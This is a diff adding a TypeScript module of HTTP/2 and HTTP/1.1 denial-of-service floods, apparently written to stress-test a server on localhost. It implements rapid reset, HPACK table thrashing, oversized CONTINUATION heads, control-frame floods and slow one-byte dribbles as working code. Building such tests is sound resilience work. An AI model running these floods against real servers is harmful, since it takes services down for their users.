@@ -1,0 +1,202 @@
+/**
+ * Floods without a rate: as many connections as asked for send as fast as they are read. Nothing of it is owed to them. Each says
+ * how a connection begins, and what it repeats from then on.
+ */
+import { randomBytes } from 'node:crypto';
+import type { TLSSocket } from 'node:tls';
+import {
+	dataFrame,
+	FLAG,
+	FRAME,
+	frame,
+	goawayFrame,
+	headersFrame,
+	pingFrame,
+	priorityFrame,
+	rstStreamFrame,
+	settingsFrame,
+	windowUpdateFrame,
+} from '../fixtures/h2-frames.ts';
+import type { Attack, Attacker } from './attacks.ts';
+
+/** The names of the sizes that each flood comes in are numbers of connections. */
+export const FLOOD_SIZES = [1, 4, 16, 64] as const;
+
+interface Flood {
+	readonly name: string;
+	readonly alpn: 'h2' | 'http/1.1';
+	/** Behind the preface over HTTP/2. */
+	readonly begin?: (token: string) => Buffer;
+	/** What is sent again and again. @param nextId a stream's identifier that has not been used on the connection. */
+	readonly chunk: (nextId: () => number, attacker: Attacker) => Buffer;
+	/** The same bytes each time: they are made once. */
+	readonly isSame?: boolean;
+}
+
+/** Bytes of a write, about. */
+const CHUNK = 65_536;
+
+function repeat(bytes: Buffer): Buffer {
+	return Buffer.concat(new Array(Math.max(1, Math.floor(CHUNK / bytes.length))).fill(bytes));
+}
+
+const POST: [string, string][] = [
+	[':method', 'POST'],
+	[':path', '/'],
+	[':scheme', 'https'],
+	[':authority', 'localhost'],
+];
+const WITH_TOKEN = (token: string): [string, string][] => [...POST, ['authorization', `Bearer ${token}`]];
+/** A request that is refused at once, and whose stream we reset behind the answer. */
+const refused = () => headersFrame(1, POST, { endStream: false });
+/** One that stays open. */
+const admitted = (token: string) => headersFrame(1, WITH_TOKEN(token), { endStream: false });
+const emptyHeaders = frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, 1);
+/** `count` new entries of the table, no two alike, and a whole request without a token. */
+function thrash(id: number, count: number): Buffer {
+	const noise = randomBytes(count * 2);
+	const entries = Array.from({ length: count }, (_, i) =>
+		Buffer.from([0x40, 4, 0x78, 0x2d, 97 + (noise[2 * i]! % 26), 97 + (noise[2 * i + 1]! % 26), 1, 49]),
+	);
+	// POST, https, / and an authority, by the static table.
+	const block = Buffer.concat([Buffer.of(0x83, 0x87, 0x84, 0x41, 1, 0x61), ...entries]);
+	return frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, block);
+}
+/** A head of 147 KB in nine frames. */
+function largeHead(id: number): Buffer {
+	const fields = Buffer.alloc(16_384, 0x90);
+	const continuations = Array.from({ length: 8 }, (_, i) =>
+		frame(FRAME.CONTINUATION, i === 7 ? FLAG.END_HEADERS : 0, id, fields),
+	);
+	return Buffer.concat([frame(FRAME.HEADERS, FLAG.END_STREAM, id, fields), ...continuations]);
+}
+/** DATA of nothing but 255 bytes of padding. */
+const padding = frame(FRAME.DATA, FLAG.PADDED, 1, Buffer.concat([Buffer.of(255), Buffer.alloc(255)]));
+
+const h2 = (name: string, begin: Flood['begin'], bytes: Buffer): Flood => ({
+	name,
+	alpn: 'h2',
+	...(begin && { begin }),
+	chunk: () => repeat(bytes),
+	isSame: true,
+});
+
+const FLOODS: readonly Flood[] = [
+	h2('HEADERS on a reset stream', refused, emptyHeaders),
+	h2(
+		'HEADERS behind our GOAWAY',
+		(token) => Buffer.concat([admitted(token), goawayFrame()]),
+		frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, 3),
+	),
+	h2('heads of 15,000 indexed fields', refused, frame(FRAME.HEADERS, 5, 1, Buffer.alloc(15_000, 0x90))),
+	{
+		name: 'HPACK tables thrashed',
+		alpn: 'h2',
+		chunk: (nextId) => Buffer.concat(Array.from({ length: 20 }, () => thrash(nextId(), 330))),
+	},
+	{ name: 'large CONTINUATIONs', alpn: 'h2', chunk: (nextId) => largeHead(nextId()) },
+	h2('large unknown frames', undefined, frame(0x42, 0, 0, Buffer.alloc(16_384))),
+	h2('small unknown frames', undefined, frame(0x42, 0, 0)),
+	h2('DATA of nothing but padding', admitted, padding),
+	h2('DATA on a reset stream', refused, dataFrame(1, Buffer.alloc(16_384))),
+	h2('empty DATA', admitted, dataFrame(1)),
+	h2('DATA of a byte', admitted, dataFrame(1, 'x')),
+	h2('PING', undefined, pingFrame()),
+	h2('SETTINGS', undefined, settingsFrame()),
+	h2('PRIORITY', undefined, priorityFrame(1)),
+	h2('WINDOW_UPDATE', admitted, windowUpdateFrame(1, 1)),
+	h2('RST_STREAM', refused, rstStreamFrame(1)),
+	{
+		name: 'rapid reset, uncapped',
+		alpn: 'h2',
+		chunk: (nextId, attacker) =>
+			Buffer.concat(
+				Array.from({ length: 100 }, () => {
+					const id = nextId();
+					return Buffer.concat([headersFrame(id, WITH_TOKEN(attacker.token(id))), rstStreamFrame(id)]);
+				}),
+			),
+	},
+	{
+		name: 'refused requests over h2',
+		alpn: 'h2',
+		chunk: (nextId) => Buffer.concat(Array.from({ length: 50 }, () => headersFrame(nextId(), POST))),
+	},
+	{
+		name: 'refused requests over h1',
+		alpn: 'http/1.1',
+		isSame: true,
+		chunk: () => repeat(Buffer.from('GET / HTTP/1.1\r\nhost: localhost\r\n\r\n')),
+	},
+	{
+		name: 'long heads over h1',
+		alpn: 'http/1.1',
+		chunk: () =>
+			Buffer.from(
+				`GET / HTTP/1.1\r\nhost: localhost\r\n${`x-${randomBytes(8).toString('hex')}: ${'y'.repeat(80)}\r\n`.repeat(120)}\r\n`,
+			),
+	},
+];
+
+/** Heads and bodies in records of one byte each: each write is a record. */
+const DRIBBLES: readonly { name: string; begin: (token: string) => string }[] = [
+	{ name: 'a head by the byte over h1', begin: () => 'GET / HTTP/1.1\r\nhost: localhost\r\nx-slow: ' },
+	{
+		name: 'a body by the byte over h1',
+		begin: (token) =>
+			`POST / HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${token}\r\ncontent-length: 1048576\r\n\r\n`,
+	},
+];
+
+export const UNCAPPED: readonly Attack[] = FLOOD_SIZES.flatMap((connections) => [
+	...FLOODS.map((flood) => ({
+		name: `${flood.name} × ${connections}`,
+		rate: 'as fast as it is read',
+		start: (attacker: Attacker) => attacker.keep(connections, OPENED_PER_SECOND, () => pour(attacker, flood)),
+	})),
+	...DRIBBLES.map(({ name, begin }) => ({
+		name: `${name} × ${connections}`,
+		rate: 'as fast as it is read',
+		start: (attacker: Attacker) =>
+			attacker.keep(connections, OPENED_PER_SECOND, () => dribble(attacker, begin(attacker.token(0)))),
+	})),
+]);
+
+/** Connections that are opened in a second, again after they were closed: handshakes are an attack of their own. */
+const OPENED_PER_SECOND = 20;
+
+async function pour(attacker: Attacker, { alpn, begin, chunk, isSame }: Flood): Promise<TLSSocket | undefined> {
+	const socket = alpn === 'h2' ? await attacker.connectH2() : await attacker.connect(alpn);
+	if (socket === undefined) return undefined;
+	if (alpn === 'http/1.1') attacker.watchH1(socket);
+	if (begin !== undefined) socket.write(begin(attacker.token(0)));
+	let id = 1;
+	const nextId = () => {
+		id += 2;
+		return id - 2;
+	};
+	const same = isSame ? chunk(nextId, attacker) : undefined;
+	const send = () => {
+		if (socket.destroyed || !socket.writable) return;
+		if (socket.write(same ?? chunk(nextId, attacker))) setImmediate(send);
+		else socket.once('drain', () => setImmediate(send));
+	};
+	// Behind the answer to what it has begun with.
+	setTimeout(send, 50);
+	return socket;
+}
+
+async function dribble(attacker: Attacker, begin: string): Promise<TLSSocket | undefined> {
+	const socket = await attacker.connect('http/1.1');
+	if (socket === undefined) return undefined;
+	attacker.watchH1(socket);
+	socket.write(begin);
+	const send = () => {
+		if (socket.destroyed || !socket.writable) return;
+		for (let i = 0; i < 100; i++) socket.write('x');
+		if (socket.writableNeedDrain) socket.once('drain', () => setImmediate(send));
+		else setImmediate(send);
+	};
+	send();
+	return socket;
+}
